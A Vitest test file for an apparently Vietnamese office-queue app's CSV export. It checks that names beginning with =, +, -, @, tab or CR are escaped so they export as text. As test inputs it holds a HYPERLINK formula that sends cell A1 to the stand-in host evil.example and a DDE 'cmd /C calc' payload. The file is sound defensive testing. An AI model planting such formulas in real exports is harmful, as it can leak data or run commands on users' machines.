// CSV formula injection: names an admin or officer typed (a service `=HYPERLINK(...)`, an officer
// `@SUM(...)`) land in the exported CSV as text, never as a formula (OWASP's rule), and the cell
// reads back as the name it was.
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from '../../server/csv';
import { counterIdOf, openCounter, serviceIdOf, testApp } from '../helpers';

const SERVICE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const OFFICER = "@SUM(1+1)*cmd|' /C calc'!A0";

describe('CSV cells are never formulas', () => {
  it('neutralises text that begins with = + - @ tab or CR; numbers stay numbers', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+84912345678')).toBe("'+84912345678");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell('Đăng ký khai sinh')).toBe('Đăng ký khai sinh');
    expect(csvCell('a "quoted", name')).toBe('"a ""quoted"", name"');
    expect(csvCell(null)).toBe('');
    expect(csvRow(['=x', 1, null])).toBe("'=x,1,");
  });

  it("a service and an officer named as formulas export as text in the office's stats.csv", async () => {
    const f = await testApp();
    const admin = f.client.fresh();
    await admin.login('admin');
    const serviceId = await serviceIdOf(f.db, 'A');
    const renamed = await admin.request('PATCH', `/api/admin/offices/1/services/${serviceId}`, { name: SERVICE });
    expect(renamed.status, JSON.stringify(renamed.body)).toBe(200);
    const staff = (await admin.get('/api/admin/staff')).body as { id: number; username: string }[];
    const officerId = staff.find((s) => s.username === 'canbo1')!.id;
    expect((await admin.request('PATCH', `/api/admin/staff/${officerId}`, { displayName: OFFICER })).status).toBe(200);

    const officer = f.client.fresh();
    await officer.login('canbo1');
    const counterId = await counterIdOf(f.db, 1);
    await openCounter(officer, counterId);
    expect((await officer.post('/api/offices/1/tickets', { serviceId })).status).toBe(201);
    f.clock.advanceMinutes(3);
    expect((await officer.post(`/api/counters/${counterId}/call-next`)).status).toBe(200);
    expect((await officer.post(`/api/counters/${counterId}/start`)).status).toBe(200);
    f.clock.advanceMinutes(5);
    expect((await officer.post(`/api/counters/${counterId}/finish`)).status).toBe(200);

    const supervisor = f.client.fresh();
    await supervisor.login('giamsat');
    const r = await supervisor.get('/api/offices/1/stats.csv');
    expect(r.status).toBe(200);
    const csv = String(r.body);
    const cells = csv.split(/\r\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    // The names are there, each as text: no cell starts with a formula character.
    expect(csv).toContain("'=HYPERLINK(");
    expect(csv).toContain("'@SUM(1+1)");
    for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+@\t\r]/);
  });
});
